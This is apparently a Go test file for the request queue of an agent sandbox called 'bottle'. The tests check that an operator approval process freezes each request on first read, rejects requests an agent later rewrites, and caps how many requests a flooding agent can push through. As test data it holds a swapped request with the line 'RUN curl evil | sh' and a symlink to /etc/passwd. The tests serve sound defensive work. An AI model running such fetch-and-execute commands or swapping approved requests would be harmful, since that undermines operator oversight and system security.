package state

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
)

func writeQueue(t *testing.T, d *Dir, id string, override map[string]any) {
	t.Helper()
	if override == nil {
		override = map[string]any{}
	}
	override["id"] = id
	if err := WriteFileAtomic(filepath.Join(d.QueuePath(), id+".json"), requestJSON(t, override), 0o644); err != nil {
		t.Fatal(err)
	}
}

func auditOf(t *testing.T, d *Dir, event string) []AuditEvent {
	t.Helper()
	var out []AuditEvent
	for _, e := range readAudit(t, d) {
		if e.Event == event {
			out = append(out, e)
		}
	}
	return out
}

// TestIntakeFreezesTheFirstRead: what bottle read first is what stays; a
// rewrite of the queue file is a changed request, answered "rejected",
// audited, and never pending again.
func TestIntakeFreezesTheFirstRead(t *testing.T) {
	_, d := newDir(t)
	writeQueue(t, d, "req-1", nil)
	pending, _ := scan(t, d)
	if len(pending) != 1 {
		t.Fatalf("pending %v", pendingIDs(pending))
	}
	f, err := d.PendingRequest("req-1")
	if err != nil {
		t.Fatal(err)
	}
	if f.Digest != RequestDigest(pending[0]) || !strings.HasPrefix(f.Digest, "sha256:") || len(f.Digest) != 71 {
		t.Errorf("digest %q", f.Digest)
	}
	fi, err := os.Stat(d.Join(RequestsDir, "req-1.json"))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("frozen copy: %v, %v", fi, err)
	}

	// The same request written again (other spacing, same content) is no
	// change.
	data := requestJSON(t, map[string]any{"id": "req-1"})
	if err := os.WriteFile(filepath.Join(d.QueuePath(), "req-1.json"), append([]byte("  "), data...), 0o644); err != nil {
		t.Fatal(err)
	}
	if p, r := scan(t, d); len(p) != 1 || len(r) != 0 {
		t.Fatalf("after an identical rewrite: pending %v, rejected %v", pendingIDs(p), r)
	}

	writeQueue(t, d, "req-1", map[string]any{"dockerfile": []string{"RUN curl evil | sh"}})
	p, r := scan(t, d)
	if len(p) != 0 || len(r) != 1 || r[0].ID != "req-1" || !strings.Contains(r[0].Reason, "changed") {
		t.Fatalf("after a swap: pending %v, rejected %v; want req-1 rejected as changed", pendingIDs(p), r)
	}
	if a := readAnswer(t, d, "req-1"); a.Status != AnswerRejected || !strings.Contains(a.Reason, "new id") {
		t.Errorf("answer %+v", a)
	}
	if _, err := d.PendingRequest("req-1"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("PendingRequest after a swap = %v", err)
	}
	ch := auditOf(t, d, "request_changed")
	if len(ch) != 1 || ch[0].Details["digest"] != f.Digest || ch[0].Details["now"] == f.Digest {
		t.Errorf("audit %+v", ch)
	}
	// Rejected once: the next read neither answers nor audits again.
	if p, r := scan(t, d); len(p) != 0 || len(r) != 0 || len(auditOf(t, d, "request_changed")) != 1 {
		t.Errorf("second read after a swap: pending %v, rejected %v", pendingIDs(p), r)
	}
}

// TestIntakeChangedToInvalid: a frozen request rewritten into something
// invalid (or a link) is also a change.
func TestIntakeChangedToInvalid(t *testing.T) {
	_, d := newDir(t)
	writeQueue(t, d, "req-1", nil)
	scan(t, d)
	q := filepath.Join(d.QueuePath(), "req-1.json")
	if err := os.Remove(q); err != nil {
		t.Fatal(err)
	}
	// Gone from the queue: the frozen copy still waits for the operator.
	if p, _ := scan(t, d); len(p) != 1 {
		t.Fatalf("after the file went: pending %v", pendingIDs(p))
	}
	if err := os.Symlink("/etc/passwd", q); err != nil {
		t.Fatal(err)
	}
	if p, r := scan(t, d); len(p) != 0 || len(r) != 1 {
		t.Fatalf("after a link: pending %v, rejected %v", pendingIDs(p), r)
	}
}

// TestFreezeFirstWins: two readers racing on a request the agent keeps
// rewriting freeze one version, and both get that one.
func TestFreezeFirstWins(t *testing.T) {
	_, d := newDir(t)
	var wg sync.WaitGroup
	got := make([]*Frozen, 8)
	for i := range got {
		wg.Go(func() {
			req, err := ParseRequest("req-1", requestJSON(t, map[string]any{"reason": fmt.Sprint("version ", i)}))
			if err != nil {
				t.Error(err)
				return
			}
			if got[i], err = d.freeze(req); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	f, err := d.FrozenRequest("req-1")
	if err != nil {
		t.Fatal(err)
	}
	for i, g := range got {
		if g == nil || g.Digest != f.Digest {
			t.Errorf("freeze %d returned %+v, the record holds %s", i, g, f.Digest)
		}
	}
	if names := dirNames(t, d.Join(RequestsDir)); !slices.Equal(names, []string{"req-1.json"}) {
		t.Errorf("requests dir holds %q", names)
	}
}

func TestAnswerSettles(t *testing.T) {
	_, d := newDir(t)
	writeQueue(t, d, "req-1", nil)
	writeQueue(t, d, "req-2", nil)
	pending, _, err := d.Intake()
	if err != nil || len(pending) != 2 {
		t.Fatalf("Intake = %d, %v", len(pending), err)
	}
	if err := d.Answer(pending[0], AnswerDenied, "no"); err != nil {
		t.Fatal(err)
	}
	if a := readAnswer(t, d, pending[0].Request.ID); a.Status != AnswerDenied {
		t.Errorf("answer %+v", a)
	}
	left, err := d.PendingRequests()
	if err != nil || len(left) != 1 || left[0].Request.ID != pending[1].Request.ID {
		t.Errorf("PendingRequests after an answer = %v, %v", left, err)
	}
	// The agent removing its answer does not make the request pending again.
	if err := os.Remove(filepath.Join(d.QueuePath(), pending[0].Request.ID+answerSuffix)); err != nil {
		t.Fatal(err)
	}
	if p, _ := scan(t, d); len(p) != 1 {
		t.Errorf("pending %v after the agent removed an answer", pendingIDs(p))
	}
	// Once its queue file is gone, an answered record is dropped.
	if err := os.Remove(filepath.Join(d.QueuePath(), pending[0].Request.ID+".json")); err != nil {
		t.Fatal(err)
	}
	scan(t, d)
	if _, err := d.FrozenRequest(pending[0].Request.ID); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("answered record after its file went: %v", err)
	}
}

func TestNormalizeDigest(t *testing.T) {
	hex := strings.Repeat("ab", 32)
	for _, in := range []string{"sha256:" + hex, hex, " SHA256:" + strings.ToUpper(hex) + " "} {
		if got, err := NormalizeDigest(in); err != nil || got != "sha256:"+hex {
			t.Errorf("NormalizeDigest(%q) = %q, %v", in, got, err)
		}
	}
	for _, in := range []string{"", "sha256:", "sha256:" + hex[:20], "md5:" + hex, hex + "00"} {
		if _, err := NormalizeDigest(in); err == nil || !strings.Contains(err.Error(), "bottle requests") {
			t.Errorf("NormalizeDigest(%q) = %v", in, err)
		}
	}
}

// flood fills d's queue as a hostile agent would: n valid requests of about
// size bytes each, plus junk and oversized files.
func flood(t testing.TB, d *Dir, n, size int) {
	t.Helper()
	pad := strings.Repeat("x", size)
	for i := range n {
		id := fmt.Sprintf("flood-%05d", i)
		data := requestJSON(t, map[string]any{"id": id, "reason": "need " + pad})
		if err := os.WriteFile(filepath.Join(d.QueuePath(), id+".json"), data, 0o644); err != nil {
			t.Fatal(err)
		}
		if i%10 == 0 {
			junk := filepath.Join(d.QueuePath(), fmt.Sprintf("junk-%05d.json", i))
			if err := os.WriteFile(junk, []byte(strings.Repeat("{", MaxRequestSize+1)), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// TestIntakeQuota: a flood of requests costs each Intake a bounded number
// of reads and audit lines, and never more than the quota reaches the
// operator; the excess is answered "rejected".
func TestIntakeQuota(t *testing.T) {
	_, d := newDir(t)
	flood(t, d, 2000, 1500)
	audited := 0
	for round := 0; ; round++ {
		pending, rejected := scan(t, d)
		if len(pending) > MaxPendingRequests {
			t.Fatalf("round %d: %d pending, quota %d", round, len(pending), MaxPendingRequests)
		}
		bytes := 0
		for _, p := range pending {
			bytes += requestSize(p)
		}
		if bytes > MaxPendingBytes {
			t.Fatalf("round %d: %d bytes pending, quota %d", round, bytes, MaxPendingBytes)
		}
		if len(rejected) > maxReadsPerIntake {
			t.Fatalf("round %d: one Intake rejected %d, more than it may read (%d)", round, len(rejected), maxReadsPerIntake)
		}
		n := len(readAudit(t, d))
		if n-audited > maxReadsPerIntake+1 {
			t.Fatalf("round %d: one Intake wrote %d audit lines", round, n-audited)
		}
		audited = n
		if len(rejected) == 0 {
			if round < 2000/maxReadsPerIntake {
				t.Fatalf("the flood was through after %d rounds: more than %d reads per Intake", round, maxReadsPerIntake)
			}
			break
		}
	}
	pending, err := d.PendingRequests()
	if err != nil || len(pending) == 0 {
		t.Fatalf("nothing pending after the flood: %v", err)
	}
	// Every request is accounted for: pending, or answered "rejected".
	for i := range 2000 {
		id := fmt.Sprintf("flood-%05d", i)
		if _, err := d.PendingRequest(id); err == nil {
			continue
		}
		if a := readAnswer(t, d, id); a.Status != AnswerRejected || !strings.Contains(a.Reason, "at most") {
			t.Fatalf("%s: answer %+v", id, a)
		}
	}
	// Answering frees room: the next request gets in.
	for _, p := range pending {
		if err := d.Answer(p, AnswerDenied, "no"); err != nil {
			t.Fatal(err)
		}
	}
	writeQueue(t, d, "late", nil)
	if p, _ := scan(t, d); len(p) != 1 || p[0].ID != "late" {
		t.Errorf("after the answers: pending %v", pendingIDs(p))
	}
}

// BenchmarkIntakeFlood is one Intake of a queue a flood has been through:
// its cost is bounded by the quota, not by the flood.
func BenchmarkIntakeFlood(b *testing.B) {
	h := Home{Path: b.TempDir()}
	d, err := h.Create(testIdentity)
	if err != nil {
		b.Fatal(err)
	}
	flood(b, d, 3000, 1500)
	for range 3000/maxReadsPerIntake + 2 {
		if _, _, err := d.Intake(); err != nil {
			b.Fatal(err)
		}
	}
	b.ResetTimer()
	for b.Loop() {
		if _, _, err := d.Intake(); err != nil {
			b.Fatal(err)
		}
	}
}
